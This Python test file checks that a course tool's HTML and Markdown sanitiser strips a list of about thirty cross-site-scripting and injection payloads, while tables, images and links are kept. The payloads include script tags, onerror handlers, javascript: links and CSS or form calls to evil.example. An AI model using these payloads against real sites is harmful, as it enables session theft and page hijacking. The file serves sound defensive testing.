"""A student's text cannot run, load or cover anything in a page."""

import re
from html.parser import HTMLParser

import pytest

from plaincourse.feedback.safe import safe_html, safe_markdown
from tests.plaincourse.test_check_report import REPORTS

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg onload=alert(1)><script>1</script></svg>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<a href=javascript:alert(1)>a</a>",
    "<a href='java\tscript:alert(1)'>a</a>",
    '<a href="data:text/html,<script>1</script>">a</a>',
    "<details ontoggle=alert(1) open>a</details>",
    "<form action=https://evil.example><input name=p><button>b</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{background:url(https://evil.example)}</style>",
    '<p style="background:url(https://evil.example/x)">a</p>',
    '<p style="background:u\\72l(https://evil.example/x)">a</p>',
    "<p style=\"background:image-set('https://evil.example/x' 1x)\">a</p>",
    '<p style="color:rgb(url(https://evil.example/x))">a</p>',
    '<p style="position:fixed;inset:0;z-index:9">a</p>',
    '<p id=summary class="full">a</p>',
    "<video src=https://evil.example/v></video><audio autoplay src=x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<x onclick=alert(1)>a</x><body onload=alert(1)>",
    '<span title="$$a$$ onclick=alert(1) x=">a</span>',
    '<span title="&#xE000;">a</span> $$\\text{" onclick=alert(1)}$$',
]
FORBIDDEN = set(
    "script iframe object embed form input button meta base link style svg video audio body".split()
)


class Strict(HTMLParser):
    """Report all active content."""

    def __init__(self):
        super().__init__()
        self.faults = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN:
            self.faults.append(tag)
        for name, value in attrs:
            bad = name.startswith("on") or name in ("id", "class", "srcset", "action")
            if name == "href":
                bad = not re.match(r"https?:|mailto:|#", value)
            if name == "src":
                bad = not re.match(r"data:image/[a-z+]+;base64,", value)
            if name == "style":
                bad = bool(re.search(r"url|image|position|inset|@|expression", value))
            if bad:
                self.faults.append(f"{tag} {name}={value}")


def faults(html):
    strict = Strict()
    strict.feed(html)
    return strict.faults


def test_the_judge_of_these_tests_finds_faults():
    found = [attack for attack in ATTACKS if faults(attack)]
    assert len(found) >= 25


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("clean", [safe_html, safe_markdown])
def test_nothing_runs_or_loads(clean, attack):
    assert faults(clean(attack)) == []
    assert faults(clean(f"a {attack} b")) == []


def test_a_formula_never_lands_in_an_attribute():
    html = safe_markdown('<span title="1 > $$a$$">b</span>')
    assert re.fullmatch(r'<p><span title="1 > ">b</span></p>\s*', html)


@pytest.mark.parametrize("report", REPORTS.values(), ids=REPORTS)
def test_what_a_report_says_stays_whole(report):
    html = re.sub(' data-instead="[^"]*"', "", report._repr_html_())
    kept = safe_html(html, ours=True)
    bare = [re.sub(r'\s|;(?=")', "", each) for each in (html, kept)]
    assert bare[1] == bare[0].replace("'", '"')


def test_tables_pictures_and_links_stay():
    table = '<table border="1"><tr><td>1</td></tr></table>'
    assert "<td>1</td>" in safe_html(table)
    assert 'src="data:image/png;base64,AAAA"' in safe_html(
        '<img src="data:image/png;base64,AAAA" alt="a">'
    )
    assert '<a href="https://a.example/">a</a>' in safe_html('<a href="https://a.example/">a</a>')


def test_pasted_pictures_are_shown():
    html = safe_markdown("![a b](attachment:p.png)", {"p.png": {"image/png": "AAAA"}})
    assert '<img src="data:image/png;base64,AAAA" alt="a b">' in html


def test_headings_go_below_those_of_the_page():
    html = safe_markdown("# a\n\n## b\n\n### c")
    assert re.findall(r"<h(\d)>(.)", html) == [("3", "a"), ("4", "b"), ("5", "c")]


@pytest.mark.parametrize(
    "text",
    [
        "[![a *b*](https://evil.example/x.png)](https://a.example)",
        "[![a *b*](p.png)](https://a.example)",
        '<a href="https://a.example"><img alt="a b" src="p.png"></a>',
    ],
)
def test_of_a_picture_that_is_not_shown_the_words_stay(text):
    assert safe_markdown(text) == '<p><a href="https://a.example">a b</a></p>\n'


def test_the_words_of_a_picture_are_text_and_end_where_they_end():
    html = safe_html("""<img alt='say "hi" > <b onclick=alert(1)>' src=x>""")
    assert html == 'say "hi" > &lt;b onclick=alert(1)>'
    assert safe_html("<img alt='a > b' src='data:image/png;base64,AA'>").startswith("<img")
